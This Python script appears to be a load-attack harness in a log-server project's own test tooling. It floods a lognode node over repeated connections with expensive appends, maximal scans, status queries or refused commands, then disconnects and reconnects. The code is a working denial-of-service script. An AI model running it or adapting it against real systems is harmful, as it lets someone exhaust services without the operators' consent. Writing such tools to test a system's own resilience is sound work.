"""Send requests that cost a node much and leave at once, on one connection after another.

`--kind appends` sends 4 MiB of records, `scans` asks for pages, `status` for status and metadata,
`commands` for what the controller has to refuse.
"""

import argparse
import contextlib
import os

from attack import Line, arguments, main, range_of

from lognode.client.protocol import frame, limits
from lognode.client.protocol.appends import APPEND
from lognode.client.protocol.cluster import DELETE_LOG, METADATA, PRODUCER_OPEN, STATUS
from lognode.client.protocol.reads import LATEST, SCAN
from lognode.client.protocol.records import encode_batch

_BATCHES = 8


def requests(kind: str, asked: dict[str, object], key: bytes) -> bytes:
    """What one connection sends."""
    if kind == "appends":
        values = [os.urandom(8 << 10) for _ in range(64)]
        batch = encode_batch([key] * 64, values, producer=0, epoch=0, low=1, numbers=1)
        body = {**asked, "batches": [batch], "timeout_ms": 30_000}
        return b"".join(frame.encode(n, APPEND.number, body) for n in range(1, 1 + _BATCHES))
    if kind == "scans":
        page = {**asked, "key": key, "start": 1, "end": None, "limit": limits.page_entries_max,
                "bytes": limits.page_bytes_max}  # fmt: skip
        latest = {**asked, "key": key}
        return b"".join(
            frame.encode(n, SCAN.number, page) + frame.encode(n + 1, LATEST.number, latest)
            for n in range(1, 64, 2)
        )
    if kind == "status":
        return b"".join(
            frame.encode(n, STATUS.number, {}) + frame.encode(n + 1, METADATA.number, {})
            for n in range(1, 64, 2)
        )
    return b"".join(
        frame.encode(n, DELETE_LOG.number, {"name": "nobody-has-it"})
        + frame.encode(n + 1, PRODUCER_OPEN.number, {})
        for n in range(1, 256, 2)
    )


async def attack(line: Line, options: argparse.Namespace) -> None:
    """One connection after another, until the program ends."""
    data = b""
    while True:
        with contextlib.suppress(ConnectionError, KeyError):  # a refusal has no ranges
            data = data or requests(
                options.kind, await range_of(line, options.log), options.key.encode()
            )
            await line.write(data)
        await line.renew(Line.open)


if __name__ == "__main__":
    parser = arguments()
    parser.add_argument(
        "--kind", choices=("appends", "scans", "status", "commands"), default="appends"
    )
    main(attack, parser)
